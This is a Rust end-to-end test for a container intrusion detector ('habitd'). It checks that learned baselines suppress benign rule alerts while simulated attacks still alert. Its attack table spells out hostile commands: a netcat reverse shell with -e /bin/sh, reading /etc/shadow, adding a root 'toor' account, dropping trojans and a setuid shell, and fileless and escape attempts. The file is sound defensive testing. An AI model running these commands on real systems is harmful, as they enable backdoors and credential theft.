//! Scenario suite of the false-positive cut (issue 4, "Evaluation"): realistic container
//! workloads whose *normal* life trips the built-in rules, learned with second-scale windows,
//! then attacked from inside. For the same run it measures what the rules alone would have
//! alerted (every rule hit, read from the alert file with `alerts_include_suppressed = true`;
//! cross-checked with `habitd_rule_hits_total`) against what habitd with fusion alerts (alerts
//! not marked `habitd.suppressed`), and asserts:
//!
//! - on benign behaviour in detection, the rules alone alert (> 0, in every scenario) and
//!   habitd sends no alert at all: no rule alert (fusion) and no anomaly alert (`habitd
//!   anomaly`). Detection is not a replay of learning: the health checks and clients run at
//!   irregular intervals with probe numbers and query strings never seen while learning, jobs
//!   get new numbers, a third worker replica starts with another pause between jobs, and one
//!   scenario is a single replica (its habits prove themselves over intervals, not across
//!   containers);
//! - every attack trips each rule that describes it (rules alone) inside its own window (from
//!   its start to the next attack's start) and each of those hits is alerted, not suppressed
//!   (fusion);
//! - every fused rule alert of the attack phase is escalated one priority above the priority
//!   its rule declares in `models/rules/habitd_rules.yaml`, and explained (novel items, score).
//!
//! The table goes to stdout (`--nocapture`) and to `target/fusion_eval.md`; the run's alerts,
//! events of the two workloads and baselines go beside it (`target/fusion_eval.*`).
//!
//! Needs root, BTF and Docker, like the other end-to-end tests, and fails with what to install.
#![allow(clippy::unwrap_used, clippy::expect_used)]

mod common;

use std::collections::BTreeMap;
use std::io::{Read, Write};
use std::net::TcpStream;
use std::path::Path;
use std::process::Command;
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant, SystemTime, UNIX_EPOCH};

use common::{
    Container, Daemon, actions_binary, import_rootfs, require_docker, static_busybox, tail,
};
use serde_json::Value;

/// Learning windows in seconds (as in learning_e2e), every suppressed rule hit also written to
/// the alert file (so that "rules alone" can be counted from the same run), and the default
/// habit criterion spelled out.
const CONFIG: &str = "alerts_include_suppressed = true\n\
    [learning]\nmin = \"3s\"\nstable = \"4s\"\nmax = \"90s\"\n\
    interval = \"250ms\"\nfalse_alarm_rate = 0.05\ncheckpoint = \"300ms\"\n\
    habit_min_intervals = 3\nhabit_min_containers = 2\n\
    [probes]\ncounters_interval = \"1s\"\n";

const WEB_IMAGE: &str = "habitd-e2e/fusion-web:e2e";
const WEB_KEY: &str = "docker.io/habitd-e2e/fusion-web:e2e";
const WORKER_IMAGE: &str = "habitd-e2e/fusion-worker:e2e";
const WORKER_KEY: &str = "docker.io/habitd-e2e/fusion-worker:e2e";
/// The web image under another tag, run as a single replica from start to end: its habits can
/// only prove themselves by recurring over learning intervals, never across containers.
const SINGLE_IMAGE: &str = "habitd-e2e/fusion-web:single";
const SINGLE_KEY: &str = "docker.io/habitd-e2e/fusion-web:single";
const ANOMALY: &str = "habitd anomaly";

/// How long the workloads live their normal life in detection before the attacks.
const BENIGN_WINDOW: Duration = Duration::from_secs(15);
/// How long one attack's alerts may take to show up.
const ATTACK_WAIT: Duration = Duration::from_secs(8);

/// Tests that load probes and run containers go one at a time (timing on two cores).
static SERIAL: Mutex<()> = Mutex::new(());

fn serial() -> std::sync::MutexGuard<'static, ()> {
    SERIAL.lock().unwrap_or_else(|p| p.into_inner())
}

// ---------------------------------------------------------------------------------------------
// The workloads
// ---------------------------------------------------------------------------------------------

/// (A) A web server whose entrypoint is a shell script: it renders its configuration below
/// /etc ("Write below etc or root"), then execs httpd. Its health check runs a shell
/// ("Shell spawned in container") with wget, like a Docker HEALTHCHECK.
const WEB_ENTRYPOINT: &str = r#"#!/bin/sh
# Renders the configuration, then becomes the web server.
echo 'A:*' > /etc/httpd.conf
echo "<html>served by $(hostname)</html>" > /www/index.html
exec /bin/httpd -f -p 8080 -h /www -c /etc/httpd.conf
"#;

/// The health check; `{n}` is the probe's sequence number (every probe has its own value).
const WEB_HEALTH_CHECK: &str =
    "wget -q -O /dev/null --header 'X-Probe: {n}' http://127.0.0.1:8080/index.html";

/// (B) A queue worker whose start-up provisions the container the way package tools do: a
/// configuration below /etc and an account added to the password database ("Write below etc
/// or root"), an account check that reads /etc/shadow ("Read sensitive file"), a setuid helper
/// installed below /usr/local/bin ("Write below binary directory", "Setuid or setgid bit
/// set"). Its job loop runs a shell per job ("Shell spawned in container") that writes a
/// heartbeat below /etc and runs the helper it installed ("Drop and execute new binary in
/// container").
///
/// Its argument is the pause between jobs (0.7 s unless given); each job gets a number.
const WORKER_ENTRYPOINT: &str = r#"#!/bin/sh
pause=${1:-0.7}
n=0
mkdir -p /etc/worker /usr/local/bin
echo "queue=jobs concurrency=2" > /etc/worker/worker.conf
grep -q '^app:' /etc/shadow || echo 'app:!:19000:0:99999:7:::' >> /etc/shadow
cp /opt/pkg/worker-helper /usr/local/bin/worker-helper
chmod 4755 /usr/local/bin/worker-helper
while true; do
    n=$((n+1))
    /bin/sh -c "date > /etc/worker/heartbeat; /usr/local/bin/worker-helper sleep 0 job-$n"
    sleep $pause
done
"#;

/// Busybox applets linked in /bin of the scenario images.
const APPLETS: &[&str] = &[
    "sh", "cat", "ls", "sleep", "wget", "httpd", "nc", "echo", "id", "true", "grep", "head", "cp",
    "chmod", "mkdir", "date", "hostname", "uname", "rm",
];

/// An image built from the host's static busybox (no registry is reachable here), with the
/// `actions` helper at /bin/actions, an /etc/shadow, and `files` (path, content, mode).
fn scenario_image(name: &str, files: &[(&str, Vec<u8>, u32)]) -> String {
    use std::os::unix::fs::PermissionsExt;
    let busybox = static_busybox();
    let root = tempfile::tempdir().unwrap();
    let r = root.path();
    for d in ["bin", "etc", "tmp", "www", "mnt", "root", "opt/pkg", "app"] {
        std::fs::create_dir_all(r.join(d)).unwrap();
    }
    std::fs::set_permissions(r.join("tmp"), std::fs::Permissions::from_mode(0o1777)).unwrap();
    std::fs::copy(busybox, r.join("bin/busybox")).unwrap();
    for a in APPLETS {
        std::os::unix::fs::symlink("busybox", r.join("bin").join(a)).unwrap();
    }
    std::fs::copy(actions_binary(), r.join("bin/actions")).unwrap();
    let mut all: Vec<(&str, Vec<u8>, u32)> = vec![
        (
            "etc/passwd",
            b"root:x:0:0:root:/root:/bin/sh\n".to_vec(),
            0o644,
        ),
        ("etc/group", b"root:x:0:\n".to_vec(), 0o644),
        ("etc/shadow", b"root:*:19000:0:99999:7:::\n".to_vec(), 0o640),
        ("www/index.html", b"hello\n".to_vec(), 0o644),
    ];
    all.extend(files.iter().cloned());
    for (path, content, mode) in &all {
        let p = r.join(path);
        std::fs::write(&p, content).unwrap();
        std::fs::set_permissions(&p, std::fs::Permissions::from_mode(*mode)).unwrap();
    }
    import_rootfs(r, name, &[]);
    name.to_string()
}

fn web_replica() -> Container {
    Container::run_with(&[], WEB_IMAGE, &["/bin/sh", "/docker-entrypoint.sh"])
}

/// The single-replica web server (same image, another tag: another workload).
fn single_web() -> Container {
    Container::run_with(&[], SINGLE_IMAGE, &["/bin/sh", "/docker-entrypoint.sh"])
}

/// The worker runs without Docker's seccomp filter (as privileged-ish jobs often do): the
/// kernel then sees its escape attempts (mount, unshare, module loads), which still fail for
/// want of capabilities. With the default filter they never reach the kernel's syscall entry,
/// so no probe can see them (and they are harmless).
///
/// `pause` is the pause between jobs, in seconds (the entrypoint's argument: the replicas that
/// learn pause 0.7 s, the one started in detection another time).
fn worker_replica(pause: &str) -> Container {
    Container::run_with(
        &["--security-opt", "seccomp=unconfined"],
        WORKER_IMAGE,
        &["/bin/sh", "/app/worker.sh", pause],
    )
}

/// A background loop of normal behaviour, stopped on drop (also when the test panics).
struct Background {
    stop: Arc<AtomicBool>,
    handle: Option<std::thread::JoinHandle<()>>,
}

impl Background {
    fn start(mut step: impl FnMut() + Send + 'static) -> Background {
        let stop = Arc::new(AtomicBool::new(false));
        let flag = stop.clone();
        let handle = std::thread::spawn(move || {
            while !flag.load(Ordering::Relaxed) {
                step();
            }
        });
        Background {
            stop,
            handle: Some(handle),
        }
    }
}

impl Drop for Background {
    fn drop(&mut self) {
        self.stop.store(true, Ordering::Relaxed);
        if let Some(h) = self.handle.take() {
            let _ = h.join();
        }
    }
}

/// A small deterministic pseudo-random sequence (xorshift), for the detection window's timing.
struct Jitter(u64);

impl Jitter {
    /// A duration in `[lo, hi)` milliseconds.
    fn between(&mut self, lo: u64, hi: u64) -> Duration {
        self.0 ^= self.0 << 13;
        self.0 ^= self.0 >> 7;
        self.0 ^= self.0 << 17;
        Duration::from_millis(lo + self.0 % (hi - lo))
    }
}

/// The health check of every web replica in `ids`, one after the other: about every 0.7 s
/// while learning; once `varied` is set (detection), at irregular intervals of 0.15-1.5 s
/// and in another order, so that detection does not replay learning's timing. Every probe
/// carries its own sequence number, so its arguments are never the same twice.
fn health_checks(ids: Arc<Mutex<Vec<String>>>, varied: Arc<AtomicBool>) -> Background {
    let mut probe = 0u64;
    let mut jitter = Jitter(0x9e37_79b9_7f4a_7c15);
    Background::start(move || {
        let mut list = ids.lock().unwrap().clone();
        let varied = varied.load(Ordering::Relaxed);
        if varied {
            list.reverse();
        }
        for id in list {
            probe += 1;
            let check = WEB_HEALTH_CHECK.replace("{n}", &probe.to_string());
            let _ = Command::new("docker")
                .args(["exec", &id, "/bin/sh", "-c", &check])
                .output();
        }
        std::thread::sleep(if varied {
            jitter.between(150, 1500)
        } else {
            Duration::from_millis(700)
        });
    })
}

/// Clients of the web servers: a GET from the host to each replica every 300 ms while
/// learning; once `varied` is set (detection), at irregular intervals of 50-900 ms, with a
/// query string of its own per request and in bursts of one to three.
fn web_clients(ips: Vec<String>, varied: Arc<AtomicBool>) -> Background {
    let mut jitter = Jitter(0x2545_f491_4f6c_dd1d);
    let mut request = 0u64;
    Background::start(move || {
        let varied = varied.load(Ordering::Relaxed);
        let burst = if varied {
            1 + jitter.between(0, 3).as_millis() as usize
        } else {
            1
        };
        for _ in 0..burst {
            for ip in &ips {
                request += 1;
                let path = if varied {
                    format!("/index.html?r={request}")
                } else {
                    "/index.html".to_string()
                };
                // One write per request, as while learning (`write!` on the stream would
                // send the format's pieces in separate writes: a request arriving in pieces
                // makes the server read in pieces, a syscall order it never learned).
                let request = format!("GET {path} HTTP/1.0\r\nHost: x\r\n\r\n");
                if let Ok(mut s) = TcpStream::connect((ip.as_str(), 8080)) {
                    let _ = s.set_read_timeout(Some(Duration::from_secs(2)));
                    let _ = s.write_all(request.as_bytes());
                    let mut body = String::new();
                    let _ = s.read_to_string(&mut body);
                }
            }
        }
        std::thread::sleep(if varied {
            jitter.between(50, 900)
        } else {
            Duration::from_millis(300)
        });
    })
}

// ---------------------------------------------------------------------------------------------
// The attacks
// ---------------------------------------------------------------------------------------------

#[derive(Clone, Copy, PartialEq, Eq)]
enum Target {
    Web,
    Worker,
}

struct Attack {
    name: &'static str,
    target: Target,
    /// Commands run with `docker exec` in the first replica, in order.
    steps: &'static [&'static [&'static str]],
    /// The rules that describe it: each must hit (rules alone) and alert (fusion).
    rules: &'static [&'static str],
    /// Rules it may trip too, reported but not required (fusion may rightly explain them).
    also: &'static [&'static str],
    /// Tells this attack's rule hits from the workload's benign hits of the same rules.
    matches: fn(&Value) -> bool,
}

fn field<'a>(a: &'a Value, name: &str) -> &'a str {
    a["output_fields"][name].as_str().unwrap_or("")
}

fn any(_: &Value) -> bool {
    true
}

fn attacks() -> Vec<Attack> {
    vec![
        Attack {
            name: "interactive shell (sh -c 'id; uname -a')",
            target: Target::Web,
            steps: &[&["/bin/sh", "-c", "id; uname -a"]],
            rules: &["Shell spawned in container"],
            also: &[],
            matches: |a| field(a, "proc.cmdline").contains("uname"),
        },
        Attack {
            name: "read /etc/shadow in the web server",
            target: Target::Web,
            steps: &[&["/bin/cat", "/etc/shadow"]],
            rules: &["Read sensitive file"],
            also: &[],
            matches: |a| field(a, "fd.name") == "/etc/shadow",
        },
        Attack {
            name: "netcat with -e (nc 127.0.0.1 4444 -e /bin/sh)",
            target: Target::Web,
            steps: &[&["/bin/nc", "-w", "1", "127.0.0.1", "4444", "-e", "/bin/sh"]],
            rules: &["Reverse shell or netcat with exec"],
            also: &[],
            matches: any,
        },
        Attack {
            // The same, typed into a shell: busybox's shell runs its applets through
            // /proc/self/exe, so the exec is of a process whose comm is `exe`.
            name: "netcat with -e typed into a shell (sh -c 'nc 127.0.0.1 4445 -e /bin/sh')",
            target: Target::Web,
            steps: &[&["/bin/sh", "-c", "nc -w 1 127.0.0.1 4445 -e /bin/sh"]],
            rules: &["Reverse shell or netcat with exec"],
            also: &["Shell spawned in container"],
            matches: |a| field(a, "proc.cmdline").contains("4445"),
        },
        Attack {
            name: "account added to /etc/passwd",
            target: Target::Web,
            steps: &[&[
                "/bin/sh",
                "-c",
                "echo 'toor:x:0:0::/root:/bin/sh' >> /etc/passwd",
            ]],
            rules: &["Write below etc or root"],
            also: &[],
            matches: |a| field(a, "fd.name") == "/etc/passwd",
        },
        Attack {
            name: "trojan written below /bin (cp busybox /bin/.sshd)",
            target: Target::Web,
            steps: &[&["/bin/cp", "/bin/busybox", "/bin/.sshd"]],
            rules: &["Write below binary directory"],
            also: &[],
            matches: |a| field(a, "fd.name") == "/bin/.sshd",
        },
        Attack {
            name: "binary dropped in /tmp then executed",
            target: Target::Web,
            steps: &[
                &["/bin/cp", "/bin/actions", "/tmp/.x-agent"],
                &["/tmp/.x-agent", "sleep", "0"],
            ],
            rules: &[
                "Execution from temporary directory",
                "Drop and execute new binary in container",
            ],
            also: &[],
            matches: |a| field(a, "proc.exepath").starts_with("/tmp/"),
        },
        Attack {
            name: "packet socket (AF_PACKET)",
            target: Target::Web,
            steps: &[&["/bin/actions", "packet"]],
            rules: &["Packet socket created"],
            also: &[],
            matches: any,
        },
        Attack {
            name: "ptrace attach (PTRACE_ATTACH)",
            target: Target::Web,
            steps: &[&["/bin/actions", "ptrace-attach"]],
            rules: &["Ptrace attach or code injection"],
            also: &[],
            matches: any,
        },
        Attack {
            name: "fileless execution (memfd_create + fexecve)",
            target: Target::Web,
            steps: &[&["/bin/actions", "memfd"]],
            rules: &[
                "Memfd created in container",
                "Fileless execution from memfd",
            ],
            also: &[],
            matches: any,
        },
        Attack {
            name: "mining pool connect (203.0.113.10:3333, TTL 1, closed at once)",
            target: Target::Web,
            steps: &[&["/bin/actions", "connect-nb", "203.0.113.10", "3333"]],
            rules: &["Outbound connection to crypto-mining pool port"],
            also: &[],
            matches: any,
        },
        Attack {
            name: "mount of a cgroup hierarchy",
            target: Target::Worker,
            steps: &[&["/bin/actions", "mount"]],
            rules: &["Mount in container"],
            also: &[],
            matches: any,
        },
        Attack {
            name: "unshare (new mount namespace)",
            target: Target::Worker,
            steps: &[&["/bin/actions", "unshare"]],
            rules: &["Namespace change in container"],
            also: &[],
            matches: any,
        },
        Attack {
            name: "kernel module load (finit_module)",
            target: Target::Worker,
            steps: &[&["/bin/actions", "finit-module"]],
            rules: &["Kernel module loaded"],
            also: &[],
            matches: any,
        },
        Attack {
            name: "setuid bit on a dropped binary (/tmp/.rootsh)",
            target: Target::Worker,
            steps: &[
                &["/bin/cp", "/bin/busybox", "/tmp/.rootsh"],
                &["/bin/chmod", "4755", "/tmp/.rootsh"],
            ],
            rules: &["Setuid or setgid bit set"],
            also: &[],
            matches: |a| field(a, "fd.name") == "/tmp/.rootsh",
        },
        Attack {
            name: "interactive shell in the worker (sh -c 'cat /etc/shadow')",
            target: Target::Worker,
            steps: &[&["/bin/sh", "-c", "cat /etc/shadow; id"]],
            rules: &["Shell spawned in container"],
            // The worker reads /etc/shadow at every start: its baseline explains the read.
            also: &["Read sensitive file"],
            matches: |a| field(a, "proc.cmdline").contains("shadow"),
        },
    ]
}

// ---------------------------------------------------------------------------------------------
// Reading the alerts
// ---------------------------------------------------------------------------------------------

fn time_of(a: &Value) -> SystemTime {
    a["time"]
        .as_str()
        .and_then(common::parse_rfc3339)
        .unwrap_or_else(|| panic!("alert without a readable time: {a}"))
}

fn suppressed(a: &Value) -> bool {
    a["habitd"]["suppressed"] == true
}

fn is_rule_hit(a: &Value) -> bool {
    a["rule"] != ANOMALY
}

/// How many occurrences an alert line stands for: a summary of repeats (`habitd.count`)
/// stands for its repeats; its first occurrence was a line of its own.
fn occurrences(a: &Value) -> u64 {
    a["habitd"]["count"].as_u64().unwrap_or(1)
}

/// The time an occurrence is counted at: a summary's first repeat, else the event time.
fn counted_time(a: &Value) -> SystemTime {
    a["habitd"]["first_seen"]
        .as_str()
        .and_then(common::parse_rfc3339)
        .unwrap_or_else(|| time_of(a))
}

fn short(a: &Value) -> String {
    format!(
        "{} [{}{}] {} novel={}",
        a["rule"].as_str().unwrap_or(""),
        a["priority"].as_str().unwrap_or(""),
        if suppressed(a) { ", suppressed" } else { "" },
        a["output"]
            .as_str()
            .unwrap_or("")
            .chars()
            .take(220)
            .collect::<String>(),
        a["habitd"]["novel"]
    )
}

/// Sum of every sample of a Prometheus counter family.
fn metric_sum(daemon: &Daemon, family: &str) -> f64 {
    let (_, body) = daemon.get("/metrics").unwrap_or_default();
    body.lines()
        .filter(|l| l.starts_with(family) && l[family.len()..].starts_with('{'))
        .filter_map(|l| l.rsplit(' ').next().and_then(|v| v.parse::<f64>().ok()))
        .sum()
}

/// The processes of the workloads' normal life (and of the runtime), left out of diagnostics.
fn is_benign_process(f: &Value) -> bool {
    let name = f["proc.name"].as_str().unwrap_or("");
    let cmdline = f["proc.cmdline"].as_str().unwrap_or("");
    let args = f["proc.args"].as_str().unwrap_or("");
    name.starts_with("runc:")
        || ["httpd", "wget", "date", "worker-helper", "sleep"].contains(&name)
        || [cmdline, args]
            .iter()
            .any(|s| s.contains("wget -q") || s.contains("heartbeat") || s.contains("worker.sh"))
}

/// The scenarios: (name in the report, workload key).
const SCENARIOS: &[(&str, &str)] = &[
    ("web", WEB_KEY),
    ("worker", WORKER_KEY),
    ("web-single", SINGLE_KEY),
];

/// The scenario an alert is about, if it is about one of them.
fn scenario_of(a: &Value) -> Option<&'static str> {
    SCENARIOS
        .iter()
        .find(|(_, key)| a["habitd"]["workload"] == *key)
        .map(|(name, _)| *name)
}

/// Falco's priorities, least severe first, as alerts spell them.
const PRIORITIES: &[&str] = &[
    "Debug",
    "Informational",
    "Notice",
    "Warning",
    "Error",
    "Critical",
    "Alert",
    "Emergency",
];

/// Every rule of habitd's built-in rules file and the priority it declares (read from the
/// file the daemon embeds, not from the daemon).
fn declared_priorities() -> BTreeMap<String, &'static str> {
    let path = Path::new(env!("CARGO_MANIFEST_DIR")).join("models/rules/habitd_rules.yaml");
    let text = std::fs::read_to_string(&path).unwrap();
    let mut out = BTreeMap::new();
    let mut rule: Option<String> = None;
    for line in text.lines() {
        if let Some(name) = line.strip_prefix("- rule:") {
            rule = Some(name.trim().to_string());
        } else if line.starts_with("- ") {
            rule = None;
        } else if let (Some(name), Some(p)) = (&rule, line.trim().strip_prefix("priority:")) {
            let p = p.trim().to_ascii_lowercase();
            let p = if p == "info" { "informational" } else { &p };
            let named = PRIORITIES
                .iter()
                .find(|x| x.to_ascii_lowercase() == p)
                .unwrap_or_else(|| panic!("{}: rule {name}: priority {p}?", path.display()));
            out.insert(name.clone(), *named);
        }
    }
    assert!(out.len() >= 16, "{}: rules {out:?}", path.display());
    out
}

/// One priority level above `p` (Emergency stays Emergency).
fn one_above(p: &str) -> &'static str {
    let i = PRIORITIES.iter().position(|x| *x == p).unwrap();
    PRIORITIES[(i + 1).min(PRIORITIES.len() - 1)]
}

/// The stored baseline of `key` (JSON), or `null`.
fn baseline_of(daemon: &Daemon, key: &str) -> String {
    match daemon.get(&format!("/api/v1/baselines/{}", key.replace('/', "%2F"))) {
        Some((200, body)) => body,
        _ => "null".to_string(),
    }
}

/// One measured attack.
struct AttackResult {
    name: &'static str,
    scenario: &'static str,
    /// Per rule that describes the attack: (rule, hits = rules alone, alerts = fusion,
    /// priorities of the fusion alerts, whether they carry the novelty).
    per_rule: Vec<(&'static str, u64, u64, String, bool)>,
    /// The same for the rules it may trip too.
    also: Vec<(&'static str, u64, u64, String, bool)>,
    /// The anomaly alerts (first occurrences) raised while it ran: novel items.
    anomalies: Vec<String>,
}

impl AttackResult {
    fn rules_alone(&self) -> u64 {
        self.per_rule.iter().map(|r| r.1).sum()
    }
    fn fusion(&self) -> u64 {
        self.per_rule.iter().map(|r| r.2).sum()
    }
    /// Every rule that describes it hit.
    fn detected_by_rules(&self) -> bool {
        self.per_rule.iter().all(|r| r.1 > 0)
    }
    /// Every rule that describes it alerted, not suppressed.
    fn detected_by_fusion(&self) -> bool {
        self.per_rule.iter().all(|r| r.2 > 0)
    }
}

// ---------------------------------------------------------------------------------------------
// The scenario
// ---------------------------------------------------------------------------------------------

#[test]
fn fusion_removes_benign_rule_alerts_and_keeps_every_attack() {
    let _serial = serial();
    let started = Instant::now();
    require_docker();

    // Images first: building them is no workload's behaviour.
    let helper = std::fs::read(actions_binary()).unwrap();
    scenario_image(
        WEB_IMAGE,
        &[(
            "docker-entrypoint.sh",
            WEB_ENTRYPOINT.as_bytes().to_vec(),
            0o755,
        )],
    );
    scenario_image(
        WORKER_IMAGE,
        &[
            (
                "app/worker.sh",
                WORKER_ENTRYPOINT.as_bytes().to_vec(),
                0o755,
            ),
            ("opt/pkg/worker-helper", helper, 0o755),
        ],
    );
    let tagged = Command::new("docker")
        .args(["tag", WEB_IMAGE, SINGLE_IMAGE])
        .output()
        .unwrap();
    assert!(
        tagged.status.success(),
        "docker tag {WEB_IMAGE} {SINGLE_IMAGE}: {}",
        String::from_utf8_lossy(&tagged.stderr)
    );

    // The store, config and alert file outlive the daemon: summaries of repeats are flushed
    // when it stops, and are counted too.
    let dir = tempfile::tempdir().unwrap();
    let mut daemon = Some(Daemon::start_in(dir.path(), CONFIG));
    let d = daemon.as_ref().unwrap();

    // Two replicas of each workload, their normal life running from the start.
    // Plus the single-replica web server.
    let t_learning = SystemTime::now();
    let web = [web_replica(), web_replica()];
    let workers = [worker_replica("0.7"), worker_replica("0.7")];
    let single = single_web();
    let checked = Arc::new(Mutex::new(
        web.iter()
            .chain([&single])
            .map(|c| c.id.clone())
            .collect::<Vec<_>>(),
    ));
    // Set when detection starts: the normal life then varies its timing and arguments.
    let varied = Arc::new(AtomicBool::new(false));
    let checks = health_checks(checked.clone(), varied.clone());
    let clients = web_clients(
        web.iter().chain([&single]).map(Container::ip).collect(),
        varied.clone(),
    );

    let web_stable = d.wait_state(WEB_KEY, "stable", Duration::from_secs(75));
    let worker_stable = d.wait_state(WORKER_KEY, "stable", Duration::from_secs(75));
    let single_stable = d.wait_state(SINGLE_KEY, "stable", Duration::from_secs(75));
    let learned_after = started.elapsed();
    println!("web baseline: {web_stable}");
    println!("worker baseline: {worker_stable}");
    println!("single-replica web baseline: {single_stable}");

    // Detection: the normal life goes on, but not as a replay of learning: health checks and
    // clients at irregular intervals with arguments of their own (probe numbers, query
    // strings), and both replicated workloads scale out by one replica (their start-up, learned
    // from two replicas, runs again in a third; the third worker with another pause between
    // jobs, and every job has a new number). The single-replica server stays single.
    std::thread::sleep(Duration::from_millis(500));
    let t_detect = SystemTime::now();
    varied.store(true, Ordering::Relaxed);
    let hits_before = metric_sum(d, "habitd_rule_hits_total");
    let suppressed_before = metric_sum(d, "habitd_alerts_suppressed_total");
    let web3 = web_replica();
    checked.lock().unwrap().push(web3.id.clone());
    let worker3 = worker_replica("0.4");
    std::thread::sleep(BENIGN_WINDOW);
    let t_attack = SystemTime::now();
    let hits_during = metric_sum(d, "habitd_rule_hits_total") - hits_before;
    let suppressed_during = metric_sum(d, "habitd_alerts_suppressed_total") - suppressed_before;

    // The attacks, one after the other, each given time to be alerted.
    let attacks = attacks();
    let mut starts = Vec::new();
    for attack in &attacks {
        let c = match attack.target {
            Target::Web => &web[0],
            Target::Worker => &workers[0],
        };
        let key = match attack.target {
            Target::Web => WEB_KEY,
            Target::Worker => WORKER_KEY,
        };
        let t0 = SystemTime::now() - Duration::from_millis(20);
        for step in attack.steps {
            let out = c.exec(step);
            println!(
                "attack step {step:?}: exit {:?} {}",
                out.status.code(),
                String::from_utf8_lossy(&out.stderr).trim()
            );
        }
        println!(
            "attack `{}` started at {:.3}",
            attack.name,
            t0.duration_since(UNIX_EPOCH).unwrap().as_secs_f64()
        );
        starts.push(t0);
        let deadline = Instant::now() + ATTACK_WAIT;
        while Instant::now() < deadline {
            let alerts = d.alerts();
            let seen = |rule: &str| {
                alerts.iter().any(|a| {
                    a["habitd"]["workload"] == key
                        && a["rule"] == rule
                        && time_of(a) >= t0
                        && (attack.matches)(a)
                })
            };
            if attack.rules.iter().all(|r| seen(r)) {
                break;
            }
            std::thread::sleep(Duration::from_millis(100));
        }
        // Its anomaly alerts too, before the next attack starts.
        std::thread::sleep(Duration::from_millis(300));
    }
    // Late alerts of the last attack.
    std::thread::sleep(Duration::from_secs(1));
    let t_end = SystemTime::now();
    let log = d.log();
    let events: Vec<Value> = d
        .events()
        .into_iter()
        .filter(|e| {
            let w = &e["output_fields"]["habitd.workload"];
            SCENARIOS.iter().any(|(_, key)| w == *key)
        })
        .collect();
    let baselines = format!(
        "{{{}}}\n",
        SCENARIOS
            .iter()
            .map(|(name, key)| format!("\"{name}\": {}", baseline_of(d, key)))
            .collect::<Vec<_>>()
            .join(",\n")
    );
    drop(checks);
    drop(clients);
    // Stopping the daemon flushes the summaries of repeated alerts into the file.
    daemon.take();
    let raw = std::fs::read_to_string(dir.path().join("alerts.jsonl")).unwrap_or_default();
    let alerts: Vec<Value> = raw
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    let target = Path::new(env!("CARGO_MANIFEST_DIR")).join("target");
    let _ = std::fs::create_dir_all(&target);
    let _ = std::fs::write(target.join("fusion_eval.alerts.jsonl"), &raw);
    let _ = std::fs::write(
        target.join("fusion_eval.events.jsonl"),
        events.iter().map(|e| format!("{e}\n")).collect::<String>(),
    );
    let _ = std::fs::write(target.join("fusion_eval.baselines.json"), &baselines);
    let mine = |a: &&Value| scenario_of(a).is_some();

    // ---- benign behaviour in detection: rules alone vs fusion -------------------------------
    let in_window = |a: &&Value| {
        let t = counted_time(a);
        t >= t_detect && t < t_attack
    };
    let benign: Vec<&Value> = alerts.iter().filter(mine).filter(in_window).collect();
    let mut benign_by: BTreeMap<(&str, String), (u64, u64)> = BTreeMap::new();
    for a in &benign {
        let scenario = scenario_of(a).unwrap();
        let e = benign_by
            .entry((scenario, a["rule"].as_str().unwrap_or("").to_string()))
            .or_default();
        if is_rule_hit(a) {
            e.0 += occurrences(a);
        }
        if !suppressed(a) {
            e.1 += occurrences(a);
        }
    }
    let benign_rules = |scenario: &str| -> u64 {
        benign_by
            .iter()
            .filter(|((s, _), _)| *s == scenario)
            .map(|(_, v)| v.0)
            .sum()
    };
    let benign_fusion_rules = |scenario: &str| -> u64 {
        benign_by
            .iter()
            .filter(|((s, rule), _)| *s == scenario && rule != ANOMALY)
            .map(|(_, v)| v.1)
            .sum()
    };
    let benign_anomalies: Vec<&&Value> = benign
        .iter()
        .filter(|a| a["rule"] == ANOMALY && !suppressed(a))
        .collect();
    let benign_unsuppressed: Vec<String> = benign
        .iter()
        .filter(|a| !suppressed(a))
        .map(|a| short(a))
        .collect();

    // Learning: what the rules alone said while the workloads learned (alerted as they are).
    let learning_hits = alerts
        .iter()
        .filter(mine)
        .filter(|a| {
            let t = counted_time(a);
            t >= t_learning && t < t_detect && is_rule_hit(a)
        })
        .map(occurrences)
        .sum::<u64>();

    // ---- attacks ----------------------------------------------------------------------------
    // Attack i's window: from its start to the next attack's start (the last one's: to the
    // end of the run, at most ATTACK_WAIT plus a second later).
    let window = |i: usize| (starts[i], starts.get(i + 1).copied().unwrap_or(t_end));
    let mut results = Vec::new();
    for (i, attack) in attacks.iter().enumerate() {
        let key = match attack.target {
            Target::Web => WEB_KEY,
            Target::Worker => WORKER_KEY,
        };
        let (t0, t1) = window(i);
        let mut per_rule = Vec::new();
        for rule in attack.rules.iter().chain(attack.also) {
            // Credited only inside its own window: from its start to the next attack's start
            // (a later attack's hit of the same rule is the later attack's).
            let hits: Vec<&Value> = alerts
                .iter()
                .filter(|a| {
                    let t = counted_time(a);
                    a["habitd"]["workload"] == key
                        && a["rule"] == *rule
                        && t >= t0
                        && t < t1
                        && (attack.matches)(a)
                })
                .collect();
            let fused: Vec<&&Value> = hits.iter().filter(|a| !suppressed(a)).collect();
            let priorities = fused
                .iter()
                .filter_map(|a| a["priority"].as_str())
                .collect::<std::collections::BTreeSet<_>>()
                .into_iter()
                .collect::<Vec<_>>()
                .join("/");
            let novel = fused.iter().any(|a| {
                a["habitd"]["novel"]
                    .as_array()
                    .is_some_and(|n| !n.is_empty())
            });
            per_rule.push((
                *rule,
                hits.iter().map(|a| occurrences(a)).sum(),
                fused.iter().map(|a| occurrences(a)).sum(),
                priorities,
                novel,
            ));
        }
        let anomalies = alerts
            .iter()
            .filter(|a| {
                let t = time_of(a);
                a["habitd"]["workload"] == key
                    && a["rule"] == ANOMALY
                    && a["habitd"]["count"].is_null()
                    && t >= t0
                    && t < t1
            })
            .flat_map(|a| {
                a["habitd"]["novel"]
                    .as_array()
                    .cloned()
                    .unwrap_or_default()
                    .into_iter()
                    .map(|n| {
                        format!(
                            "{}: {}",
                            n["dimension"].as_str().unwrap_or(""),
                            n["item"].as_str().unwrap_or("")
                        )
                    })
            })
            .collect::<std::collections::BTreeSet<_>>()
            .into_iter()
            .collect();
        let also = per_rule.split_off(attack.rules.len());
        results.push(AttackResult {
            also,
            name: attack.name,
            scenario: match attack.target {
                Target::Web => "web",
                Target::Worker => "worker",
            },
            per_rule,
            anomalies,
        });
    }

    let attack_alerts: Vec<String> = alerts
        .iter()
        .filter(mine)
        .filter(|a| time_of(a) >= t_attack)
        .filter(|a| !suppressed(a))
        .map(short)
        .collect();

    // ---- fusion's escalation -----------------------------------------------------------------
